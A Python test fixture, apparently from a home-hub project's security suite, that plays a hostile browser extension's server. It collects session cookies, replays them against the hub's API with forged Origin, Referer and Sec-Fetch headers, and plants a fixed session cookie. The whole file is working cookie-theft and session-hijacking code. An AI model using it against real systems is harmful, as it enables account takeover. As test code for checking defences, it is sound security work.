# SPDX-License-Identifier: Apache-2.0
"""A hostile extension's server: it serves the page that attacks, and keeps every cookie that a
browser sends to its own port, to use it against the house from outside the browser."""

import http.client
import http.server
import json
import pathlib
import sys
import urllib.parse

PORT = int(sys.argv[1])
PAGE = pathlib.Path(__file__).with_name("index.html").read_bytes()
STOLEN = []


class Thief(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        path = urllib.parse.urlsplit(self.path)
        if path.path == "/steal":
            STOLEN.append(self.headers.get("Cookie", ""))
            return self.answer("text/plain", b"thanks")
        if path.path == "/seen":
            return self.answer("application/json", json.dumps({
                "port": PORT, "stolen": STOLEN, "cookie": self.headers.get("Cookie", ""),
                "csrf": self.headers.get("X-CSRF-Token", ""),
            }).encode())
        if path.path == "/use":
            return self.answer("application/json", json.dumps(self.use(urllib.parse.parse_qs(path.query)["hub"][0])).encode())
        if path.path == "/sw.js":
            return self.answer("text/javascript", b"self.onfetch = () => {}")
        return self.answer("text/html", PAGE)

    def use(self, hub):
        """Plays the browser with the stolen cookies: every header is forged but the page key."""
        found = []
        for cookie in sorted({c for c in STOLEN if "holdfast_session" in c}):
            for method, path in [("POST", "/api/v1/unit/list"), ("POST", "/api/v1/link/create"), ("GET", "/auth/me"),
                                 ("GET", "/api/supervisor/services")]:
                found.append(self.forge(hub, method, path, cookie))
        return found

    def forge(self, hub, method, path, cookie):
        to = urllib.parse.urlsplit(hub)
        connection = http.client.HTTPConnection(to.hostname, to.port, timeout=10)
        connection.request(method, path, body="{}" if method == "POST" else None, headers={
            "Cookie": cookie, "Origin": hub, "Referer": hub + "/", "Sec-Fetch-Site": "same-origin",
            "Sec-Fetch-Mode": "cors", "Sec-Fetch-Dest": "empty", "Content-Type": "application/json",
        })
        response = connection.getresponse()
        body = response.read().decode(errors="replace")
        connection.close()
        return {"request": f"{method} {path}", "status": response.status, "body": body[:2000]}

    def answer(self, kind, body):
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        # What an extension would send to reach beyond itself.
        self.send_header("Service-Worker-Allowed", "/")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Set-Cookie", "holdfast_session=fixed; Path=/")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


http.server.ThreadingHTTPServer(("127.0.0.1", PORT), Thief).serve_forever()
